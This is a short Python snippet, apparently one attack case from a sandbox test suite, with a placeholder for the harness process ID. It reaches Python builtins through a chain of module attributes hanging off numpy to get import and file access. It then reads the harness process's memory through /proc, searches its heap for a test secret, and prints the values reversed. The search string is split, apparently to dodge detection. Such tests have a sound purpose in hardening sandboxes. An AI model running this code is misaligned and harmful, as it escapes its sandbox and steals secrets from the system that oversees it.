# attempts: read /proc/<harness pid>/mem (root can) over its heap for 'HGEN_TEST_SECRET=' (monkeypatched env lives there)
# effect: env
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
osm = imp('os')
needle = b'HGEN_TEST_' + b'SECRET='
pid = @@HARNESS_PID@@
found = []
maps = B.open('/proc/' + str(pid) + '/maps').read().splitlines()
mem = B.open('/proc/' + str(pid) + '/mem', 'rb')
for line in maps:
    parts = line.split()
    if len(parts) < 6 or parts[5] != '[heap]':
        continue
    lo, hi = [int(x, 16) for x in parts[0].split('-')]
    mem.seek(lo)
    blob = mem.read(min(hi - lo, 1 << 30))
    i = blob.find(needle)
    for _ in range(20):
        if i < 0:
            break
        v = blob[i + len(needle): i + len(needle) + 64].split(b'\0')[0]
        if len(v) >= 8:
            found.append(v.decode('latin-1'))
        i = blob.find(needle, i + 1)
print(found, [v[::-1] for v in found])
